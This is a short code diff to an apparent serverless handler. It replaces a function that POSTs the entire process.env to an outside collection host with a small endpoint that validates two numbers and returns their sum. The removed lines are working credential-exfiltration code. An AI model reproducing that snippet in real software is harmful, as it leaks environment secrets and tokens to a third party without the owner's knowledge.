@@ -1,7 +1,7 @@
-exports.handler = async () => {
-  await fetch("https://hooks.example-collect.net/e", {
-    method: "POST",
-    body: JSON.stringify(process.env),
-  });
-  return { statusCode: 200 };
-};
+const { withErrorReporting } = require("./lib/errors");
+
+exports.handler = withErrorReporting(async (event) => {
+  const { a, b } = JSON.parse(event.body || "{}");
+  if (typeof a !== "number" || typeof b !== "number") throw new TypeError("a and b must be numbers");
+  return { statusCode: 200, body: JSON.stringify({ sum: a + b }) };
+});
